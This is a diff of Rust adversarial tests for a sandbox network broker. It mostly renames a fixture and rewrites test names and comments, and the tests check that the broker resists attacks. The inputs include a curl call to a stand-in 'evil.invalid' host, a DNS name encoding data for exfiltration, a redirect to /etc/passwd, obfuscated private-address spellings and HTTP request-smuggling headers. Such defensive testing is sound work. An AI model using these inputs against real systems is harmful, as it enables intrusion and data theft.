@@ -1,14 +1,14 @@
-//! Ways round the broker, and through it.
+//! Attempts to bypass the broker, or to misuse it.
 
 use std::os::unix::fs::PermissionsExt as _;
 use std::os::unix::process::CommandExt as _;
 use std::process::Command;
 
+use crate::fixture::{BrokerFixture, Setup, reaching};
 use crate::servers::{Server, ok};
-use crate::world::{Setup, World, reaching};
 
-impl World {
-    /// Says exactly this to the broker from inside a sandbox, and returns what it answers.
+impl BrokerFixture {
+    /// Sends exactly these bytes to the broker from inside a sandbox, and returns its answer.
     async fn raw(&self, said: &str) -> String {
         let bytes = said.replace('\\', "\\\\").replace('\r', "\\r").replace('\n', "\\n").replace('%', "%%");
         self.out(&format!(
@@ -19,10 +19,10 @@ impl World {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn adv_046_no_socket_but_the_brokers_leads_anywhere() {
+async fn adv_046_only_the_brokers_socket_reaches_the_network() {
     let server = Server::new(|_| ok("hello"));
     let at = server.at();
-    let world = World::new(Setup { network: reaching(&[&at]), ..Setup::default() }).await;
+    let world = BrokerFixture::new(Setup { network: reaching(&[&at]), ..Setup::default() }).await;
     let script = r#"
 import socket as s
 def attempt(name, *how, to=None, send=False):
@@ -51,32 +51,32 @@ print('done')
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn adv_047_there_is_no_resolver_inside_and_the_broker_looks_up_only_what_is_allowed() {
+async fn adv_047_sandboxes_have_no_resolver_and_the_broker_looks_up_only_allowed_names() {
     let policy = "
 version: 1
 rules:
   - { id: programs, effect: allow, match: { tool: shell.exec } }
   - { id: below, effect: allow, match: { tool: net.request, host: '*.allowed.invalid' } }
 ";
-    let world = World::new(Setup { policy, ..Setup::default() }).await;
+    let world = BrokerFixture::new(Setup { policy, ..Setup::default() }).await;
     let lines = "getent hosts example.com; /usr/bin/python3 -c 'import socket; socket.gethostbyname(\"example.com\")' 2>&1 | tail -n 1; \
                  ls /etc/resolv.conf 2>&1";
     let said = world.out(lines).await;
     assert!(said.contains("gaierror") && said.contains("No such file"), "{said}");
-    // Denied before anyone looks it up.
+    // Denied before any lookup.
     let said = world.out("curl -sSi http://hunter2.evil.invalid/").await;
     assert!(said.contains("403") && said.contains("x-regent-verdict: deny"), "{said}");
-    // Allowed by its ending, but it is a message.
+    // Its suffix is allowed, but the name encodes data.
     let name = "onswg4tfoqqgs4zanb2w45dfoizcazdpnzsq";
     let said = world.out(&format!("curl -sSi http://{name}.allowed.invalid/")).await;
     assert!(said.contains("502") && said.contains("net.name_refused"), "{said}");
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn adv_048_private_addresses_are_refused_in_every_spelling() {
+async fn adv_048_denies_private_addresses_in_every_spelling() {
     let server = Server::new(|_| ok("hello"));
     let port = server.port;
-    let world = World::new(Setup::default()).await;
+    let world = BrokerFixture::new(Setup::default()).await;
     let hosts = [
         "127.0.0.1",
         "0x7f000001",
@@ -145,25 +145,25 @@ rules:
         outer.port
     );
     let network = reaching(&[&outer.at(), &inner.at()]);
-    let world = World::new(Setup { policy: &policy, network, ..Setup::default() }).await;
+    let world = BrokerFixture::new(Setup { policy: &policy, network, ..Setup::default() }).await;
     let said = world.out(&format!("curl -sSL http://{}/ -w ' %{{http_code}}'", outer.at())).await;
     assert!(said.ends_with(" 403") && said.contains("denied"), "{said}");
     assert_eq!((outer.heard().len(), inner.heard().len()), (1, 0));
-    // Elsewhere than to the web a client may want to go, but the broker doesn't.
+    // The redirect leaves the web, and the broker doesn't follow.
     let leads_out = Server::new(|_| {
         b"HTTP/1.1 302 Found\r\nlocation: file:///etc/passwd\r\ncontent-length: 0\r\n\r\n".to_vec()
     });
     let network = reaching(&[&leads_out.at()]);
-    let world = World::new(Setup { network, ..Setup::default() }).await;
+    let world = BrokerFixture::new(Setup { network, ..Setup::default() }).await;
     let said = world.out(&format!("curl -sSL http://{}/ 2>&1", leads_out.at())).await;
     assert!(!said.contains("root:"), "{said}");
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn adv_051_what_two_readers_could_read_differently_is_refused() {
+async fn adv_051_rejects_ambiguous_requests() {
     let server = Server::new(|_| ok("hello"));
     let at = server.at();
-    let world = World::new(Setup { network: reaching(&[&at]), ..Setup::default() }).await;
+    let world = BrokerFixture::new(Setup { network: reaching(&[&at]), ..Setup::default() }).await;
     let heads = [
         "Host: other.test\r\n".to_owned(),
         format!("Host: {at}\r\nHost: other.test\r\n"),
@@ -175,7 +175,7 @@ async fn adv_051_what_two_readers_could_read_differently_is_refused() {
     ];
     for head in heads {
         let said = world.raw(&format!("POST http://{at}/ HTTP/1.1\r\n{head}\r\n0\r\n\r\n")).await;
-        // A connection that is cut while there is more to read may take the answer with it.
+        // A connection that is cut with unread input may lose the answer.
         let refused = ["HTTP/1.1 400", "HTTP/1.1 501"].iter().any(|line| said.starts_with(line));
         assert!(refused || said.is_empty(), "{head:?}: {said}");
     }
@@ -184,7 +184,7 @@ async fn adv_051_what_two_readers_could_read_differently_is_refused() {
     let refused = ["HTTP/1.1 431", "HTTP/1.1 400"].iter().any(|line| said.starts_with(line));
     assert!(refused || said.is_empty(), "{said}");
     assert_eq!(server.heard(), Vec::<String>::new());
-    // Two ways to say how long it is: one is left when it leaves, and nothing after the end of the body.
+    // Two lengths: only one is sent on, and nothing after the end of the body.
     let said = world
         .raw(&format!(
             "POST http://{at}/ HTTP/1.1\r\nHost: {at}\r\nContent-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n\
@@ -194,7 +194,7 @@ async fn adv_051_what_two_readers_could_read_differently_is_refused() {
     assert!(said.starts_with("HTTP/1.1 200") || said.is_empty(), "{said}");
     let heard = server.heard();
     assert!(heard.len() == 1 && !heard[0].to_lowercase().contains("content-length"), "{heard:?}");
-    // The same without the trick passes, and what belongs to the connection stays behind.
+    // The same without the trick passes, without the connection's headers.
     let said = world
         .raw(&format!(
             "GET http://{at}/ HTTP/1.1\r\nHost: {at}\r\nConnection: close, X-Hop\r\nX-Hop: 1\r\nTE: trailers\r\n\
@@ -218,8 +218,8 @@ async fn adv_055_a_dead_broker_is_no_network() {
     });
     let at = server.at();
     let setup = Setup { network: reaching(&[&at]), serves_ms_max: Some(1_500), ..Setup::default() };
-    let world = World::new(setup).await;
-    // One before it dies, one that it dies with, and one after.
+    let world = BrokerFixture::new(setup).await;
+    // One request before the broker dies, one during, and one after.
     let line = format!(
         "curl -sS http://{at}/; echo; curl -sS http://{at}/slow 2>&1; curl -sS --max-time 5 http://{at}/ 2>&1; true"
     );
@@ -227,16 +227,16 @@ async fn adv_055_a_dead_broker_is_no_network() {
     let lines: Vec<&str> = said.lines().collect();
     assert_eq!(lines[0], "hello");
     assert!(lines.len() == 3 && lines[1].starts_with("curl: (") && lines[2].starts_with("curl: ("), "{said}");
-    // What was under way has its outcome.
+    // The interrupted request has an outcome.
     let recorded = world.recorded().await;
     assert!(recorded.iter().any(|(_, body)| body["status"]["failed"]["code"] == "net.gone"), "{recorded:#?}");
 }
 
 #[test]
-fn an_ordinary_user_gets_the_same() {
+fn works_the_same_for_an_ordinary_user() {
     const NOBODY: u32 = 65_534;
     if !rustix::process::geteuid().is_root() {
-        // Then this is what every other test has just shown.
+        // Not root: every other test already ran as an ordinary user.
         return;
     }
     let folder = tempfile::tempdir().unwrap();
@@ -244,9 +244,9 @@ fn an_ordinary_user_gets_the_same() {
     std::fs::set_permissions(folder.path(), anyone.clone()).unwrap();
     std::fs::copy(std::env::current_exe().unwrap(), &copy).unwrap();
     std::fs::set_permissions(&copy, anyone).unwrap();
-    #[expect(clippy::disallowed_methods, reason = "this test runs itself again, as somebody else")]
+    #[expect(clippy::disallowed_methods, reason = "this test runs itself again as another user")]
     let output = Command::new(&copy)
-        .args(["--skip", "an_ordinary_user_gets_the_same"])
+        .args(["--skip", "works_the_same_for_an_ordinary_user"])
         .uid(NOBODY)
         .gid(NOBODY)
         .current_dir("/")
